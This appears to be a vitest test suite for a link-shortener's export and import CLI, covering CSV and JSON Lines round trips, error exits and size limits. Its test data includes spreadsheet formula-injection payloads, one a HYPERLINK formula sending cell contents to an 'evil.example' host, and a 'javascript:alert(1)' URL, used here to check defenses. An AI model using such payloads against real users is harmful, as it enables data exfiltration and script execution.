import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { countRows, createAccount, inDays, startTestServer, type TestAccount, type TestServer } from './harness.ts';
import { runCli } from './processes.ts';

let server: TestServer;
let alice: TestAccount;
let env: Record<string, string>;
let dir: string;

beforeAll(async () => {
  server = await startTestServer();
  alice = await createAccount(server, { plan: 'unlimited' });
  env = { DATABASE_URL: server.databaseUrl, SHORT_DOMAIN: server.shortDomain };
  dir = await mkdtemp(path.join(tmpdir(), 'shortlinks-transfer-'));
  for (const [i, name] of ['Comma, "quoted"', 'Plain'].entries()) {
    const created = await alice.call('POST', '/links', {
      title: name,
      destination_url: `https://example.com/${i}`,
      slug: `cli-${i}`,
      tag_names: ['CLI', `tag|${i}`, 'back\\slash'],
    });
    expect(created.status).toBe(201);
  }
  const full = await alice.call('POST', '/links', {
    title: '=HYPERLINK("https://evil.example")',
    destination_url: 'https://example.com/full?b=2',
    utm: { source: 'news', campaign: 'spring' },
    slug: 'cli-full',
    external_id: 'crm, "7"',
    comments: 'two\nlines, and "quotes"',
    expires_at: inDays(20),
    expiration_url: 'https://example.com/after',
  });
  expect(full.status).toBe(201);
  const bare = await alice.call('POST', '/links', { title: 'Bare', destination_url: 'https://example.com/bare' });
  expect(bare.status).toBe(201);
});
afterAll(async () => {
  await server.close();
  await rm(dir, { recursive: true, force: true });
});

async function restExport(format: string): Promise<string> {
  const response = await fetch(`${server.api}/links/export?format=${format}`, { headers: { authorization: `Bearer ${alice.key}` } });
  expect(response.status).toBe(200);
  return response.text();
}

describe('pnpm shortlinks export', () => {
  test('writes the same file as GET /links/export to stdout, CSV by default', { timeout: 60_000 }, async () => {
    const csv = await runCli(['export', '--account', alice.account.id], env);
    expect(csv.code).toBe(0);
    expect(csv.stdout).toBe(await restExport('csv'));
    expect(csv.stdout.startsWith('id,slug,short_url,')).toBe(true);
    const jsonl = await runCli(['export', '--account', alice.account.id, '--format', 'jsonl'], env);
    expect(jsonl.code).toBe(0);
    expect(jsonl.stdout).toBe(await restExport('jsonl'));
  });

  test('--output FILE writes the file, and leaves no partial file behind', { timeout: 60_000 }, async () => {
    const file = path.join(dir, 'links.jsonl');
    const result = await runCli(['export', '--account', alice.account.id, '--format', 'jsonl', '--output', file], env);
    expect(result.code).toBe(0);
    expect(result.stdout).toBe('');
    expect(await readFile(file, 'utf8')).toBe(await restExport('jsonl'));
    await expect(stat(`${file}.partial`)).rejects.toThrow();
  });

  test('a bad format, an unknown account or a missing --account is a usage error (exit 2) that writes nothing', {
    timeout: 60_000,
  }, async () => {
    const file = path.join(dir, 'never.csv');
    for (const args of [
      ['export', '--account', alice.account.id, '--format', 'xml', '--output', file],
      ['export', '--account', 'acc_nobody', '--output', file],
      ['export', '--output', file],
    ]) {
      const result = await runCli(args, env);
      expect(result.code, args.join(' ')).toBe(2);
      expect(result.stderr.length).toBeGreaterThan(0);
      await expect(stat(file)).rejects.toThrow();
    }
  });
});

describe('spreadsheet formulas in the CSV export', () => {
  test('guarded by default, raw with --raw-csv, and the guarded file imports back to the exact values', { timeout: 120_000 }, async () => {
    const carol = await createAccount(server, { plan: 'unlimited' });
    const links = [
      { title: '=HYPERLINK("http://evil.example/?"&A1,"click")', tag_names: ['=1+1', "'-x"], comments: '=cmd', slug: '-formula' },
      { title: '=1+1', external_id: '+49 30 1234', comments: "'=kept as typed" },
      { title: "''@two apostrophes", tag_names: ['plain'], external_id: '@crm' },
    ];
    for (const [i, link] of links.entries()) {
      const created = await carol.call('POST', '/links', { ...link, destination_url: `https://example.com/formula/${i}` });
      expect(created.status, JSON.stringify(created.body)).toBe(201);
    }
    const env = { DATABASE_URL: server.databaseUrl, SHORT_DOMAIN: server.shortDomain };
    const file = path.join(dir, 'formulas.csv');
    const guarded = await runCli(['export', '--account', carol.account.id, '--output', file], env);
    expect(guarded.code, guarded.stderr).toBe(0);
    const text = await readFile(file, 'utf8');
    // Every cell, quoted or not, starts with something a spreadsheet shows as text.
    const cellStarts = text.split('\r\n').flatMap((line) => line.split(',').map((cell) => cell.replace(/^"/, '')));
    expect(cellStarts.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",''-x|=1+1,,'=cmd,`);

    const raw = await runCli(['export', '--account', carol.account.id, '--raw-csv'], env);
    expect(raw.code, raw.stderr).toBe(0);
    expect(raw.stdout).toBe(
      await (await fetch(`${server.api}/links/export?csv_formulas=raw`, { headers: { authorization: `Bearer ${carol.key}` } })).text(),
    );
    expect(raw.stdout).toContain(',=1+1,,+49 30 1234,');
    const jsonl = await runCli(['export', '--account', carol.account.id, '--raw-csv', '--format', 'jsonl'], env);
    expect(jsonl.code).toBe(2);
    expect(jsonl.stderr).toContain('--raw-csv');

    const original = linksOf((await runCli(['export', '--account', carol.account.id, '--format', 'jsonl'], env)).stdout);
    expect(original.map((link) => link.title)).toEqual(links.map((link) => link.title));
    const other = await startTestServer();
    try {
      const fresh = await createAccount(other, { plan: 'unlimited' });
      const imported = await runCli(['import', '--account', fresh.account.id, file], {
        DATABASE_URL: other.databaseUrl,
        SHORT_DOMAIN: other.shortDomain,
      });
      expect(imported.code, imported.stdout + imported.stderr).toBe(0);
      expect(imported.stdout).toMatch(/created\s+3\b/);
      const again = await fetch(`${other.api}/links/export?format=jsonl`, { headers: { authorization: `Bearer ${fresh.key}` } });
      expect(linksOf(await again.text())).toEqual(original);
    } finally {
      await other.close();
    }
  });
});

/** The links of an export, without what belongs to the exporting account (id, click count). */
function linksOf(jsonl: string) {
  return jsonl
    .trim()
    .split('\n')
    .map((line) => {
      const { id: _id, click_count: _clicks, ...link } = JSON.parse(line);
      return link;
    });
}

describe('pnpm shortlinks import', () => {
  test('an export imported into a fresh account of another instance gives the same links, from CSV and from JSON Lines', {
    timeout: 120_000,
  }, async () => {
    const original = linksOf(await restExport('jsonl'));
    expect(original).toHaveLength(4);
    for (const format of ['csv', 'jsonl']) {
      const other = await startTestServer();
      try {
        const fresh = await createAccount(other, { plan: 'unlimited' });
        const file = path.join(dir, `round-trip.${format}`);
        await writeFile(file, await restExport(format));
        const result = await runCli(['import', '--account', fresh.account.id, file], {
          DATABASE_URL: other.databaseUrl,
          SHORT_DOMAIN: other.shortDomain,
        });
        expect(result.stderr).toContain(`(shortlinks-${format})`);
        expect(result.code, result.stdout + result.stderr).toBe(0);
        expect(result.stdout).toMatch(/created\s+4\b/);
        const again = await fetch(`${other.api}/links/export?format=jsonl`, { headers: { authorization: `Bearer ${fresh.key}` } });
        expect(linksOf(await again.text())).toEqual(original);
      } finally {
        await other.close();
      }
    }
  });

  test('reports each refused row with its row number and code, exits 1, and a second run changes nothing', {
    timeout: 120_000,
  }, async () => {
    const bob = await createAccount(server, { plan: 'unlimited' });
    const file = path.join(dir, 'refusals.jsonl');
    const line = (link: Record<string, unknown>) =>
      JSON.stringify({
        id: 'lnk_x',
        slug: null,
        short_url: 'https://old.example/x',
        destination_url: null,
        title: 'T',
        tags: [],
        external_id: null,
        comments: null,
        expires_at: null,
        expiration_url: null,
        click_count: 0,
        created_at: '2025-01-01T00:00:00.000Z',
        ...link,
      });
    await writeFile(
      file,
      [
        line({ slug: 'bob-1', destination_url: 'https://example.com/b1', tags: ['Imported'] }),
        line({ slug: 'cli-0', destination_url: 'https://example.com/taken' }),
        line({ slug: 'bob-2', destination_url: 'javascript:alert(1)' }),
        'not json',
        line({ slug: 'bob-3', destination_url: 'https://example.com/b3' }),
      ].join('\n'),
    );
    const env = { DATABASE_URL: server.databaseUrl, SHORT_DOMAIN: server.shortDomain };
    // Named: detection does not yet see through a malformed line in the file's first 64 KiB.
    const format = ['--format', 'shortlinks-jsonl'];
    const dry = await runCli(['import', '--account', bob.account.id, ...format, '--dry-run', file], env);
    expect(dry.code, dry.stderr).toBe(1);
    expect(dry.stdout).toMatch(/^Dry run \(nothing written\): 5 rows/m);
    expect(await countRows(server, 'link', `account_id = '${bob.account.id}'`)).toBe(0);

    const first = await runCli(['import', '--account', bob.account.id, ...format, file], env);
    expect(first.code).toBe(1);
    const report = first.stdout.split('\n').filter((text) => text.startsWith('row '));
    expect(report.map((text) => text.split(' ').slice(0, 3).join(' '))).toEqual([
      'row 2: SLUG_TAKEN',
      'row 3: VALIDATION_ERROR',
      'row 4: MALFORMED_ROW',
    ]);
    expect(first.stdout).toMatch(/created\s+2\b/);
    expect(first.stdout).toMatch(/refused\s+3\b/);
    expect(dry.stdout.split('\n').filter((text) => text.startsWith('row '))).toEqual(report);

    const second = await runCli(['import', '--account', bob.account.id, ...format, '--json', file], env);
    const summary = JSON.parse(second.stdout);
    expect(summary).toMatchObject({ format: 'shortlinks-jsonl', created: 0, updated: 0, skipped: 2, refused: 3 });
    expect(summary.refusals.map((refusal: { row: number }) => refusal.row)).toEqual([2, 3, 4]);
    expect(await countRows(server, 'link', `account_id = '${bob.account.id}'`)).toBe(2);
  });

  test('a file that breaks midway: the batches before it stay, and the message says so with their counts', {
    timeout: 120_000,
  }, async () => {
    const carol = await createAccount(server, { plan: 'unlimited' });
    const file = path.join(dir, 'breaks-midway.csv');
    const good = Array.from({ length: 700 }, (_, i) => `midway-${i},https://example.com/m${i},M ${i}`);
    await writeFile(
      file,
      ['slug,destination_url,title', ...good, 'midway-bad,"https://example.com/unclosed,Bad', ...good.slice(0, 5)].join('\n'),
    );
    const result = await runCli(['import', '--account', carol.account.id, '--format', 'shortlinks-csv', file], env);
    expect(result.code, result.stderr).toBe(2);
    // One batch of 500 was applied before the file broke; the 200 rows read after it were not.
    expect(result.stderr).toMatch(/MALFORMED_FILE/);
    expect(result.stderr).toMatch(/Before it, in batches that stay imported: 500 created, 0 updated, 0 unchanged, 0 refused\./);
    expect(result.stderr).toMatch(/run the import again/);
    expect(await countRows(server, 'link', `account_id = '${carol.account.id}'`)).toBe(500);

    const dry = await runCli(['import', '--account', carol.account.id, '--format', 'shortlinks-csv', '--dry-run', file], env);
    expect(dry.code).toBe(2);
    expect(dry.stderr).toMatch(/Nothing was changed\./);
  });

  test('--on-conflict fail with no conflict imports the file', { timeout: 60_000 }, async () => {
    const dave = await createAccount(server, { plan: 'unlimited' });
    const file = path.join(dir, 'fail-no-conflict.csv');
    await writeFile(file, 'slug,destination_url,title\ncf-cli-1,https://example.com/1,One\ncf-cli-2,https://example.com/2,Two\n');
    const result = await runCli(['import', '--account', dave.account.id, '--format', 'shortlinks-csv', '--on-conflict', 'fail', file], env);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toMatch(/created\s+2\b/);
    expect(await countRows(server, 'link', `account_id = '${dave.account.id}'`)).toBe(2);
  });

  test('a JSON line or value past the record cap, /dev/zero and a directory stop the import: exit 2, nothing imported', {
    timeout: 120_000,
  }, async () => {
    const erin = await createAccount(server, { plan: 'unlimited' });
    const env = { DATABASE_URL: server.databaseUrl, SHORT_DOMAIN: server.shortDomain };
    const longLine = path.join(dir, 'long-line.jsonl');
    const link = { slug: 'cap-1', destination_url: 'https://example.com/cap' };
    await writeFile(longLine, `${JSON.stringify({ ...link, comments: 'x'.repeat(4 * 1024 * 1024) })}\n`);
    const longValue = path.join(dir, 'long-description.json');
    await writeFile(
      longValue,
      JSON.stringify({ total: 1, data: [{ address: 'cap-2', target: link.destination_url, description: 'd'.repeat(4 * 1024 * 1024) }] }),
    );
    const cases: [string[], string][] = [
      [[longLine], 'line 1 runs past 256 KiB'],
      [[longValue], 'runs past 256 KiB'],
      [['--format', 'shortlinks-jsonl', '/dev/zero'], 'line 1 runs past 256 KiB'],
      [[dir], 'cannot read'],
    ];
    for (const [args, message] of cases) {
      const result = await runCli(['import', '--account', erin.account.id, ...args], env);
      expect(result.code, `${args.join(' ')}: ${result.stderr}`).toBe(2);
      expect(result.stderr).toContain(message);
    }
    expect(await countRows(server, 'link', `account_id = '${erin.account.id}'`)).toBe(0);
  });

  test('a bad --on-conflict, a missing file or a file of no known format is a usage error (exit 2)', { timeout: 60_000 }, async () => {
    const env = { DATABASE_URL: server.databaseUrl, SHORT_DOMAIN: server.shortDomain };
    const unknown = path.join(dir, 'unknown.txt');
    await writeFile(unknown, 'hello world\n');
    for (const args of [
      ['import', '--account', alice.account.id, '--on-conflict', 'merge', unknown],
      ['import', '--account', alice.account.id, path.join(dir, 'missing.csv')],
      ['import', '--account', alice.account.id, unknown],
      ['import', '--account', alice.account.id],
    ]) {
      const result = await runCli(args, env);
      expect(result.code, `${args.join(' ')}: ${result.stderr}`).toBe(2);
      expect(result.stderr.length).toBeGreaterThan(0);
    }
  });
});
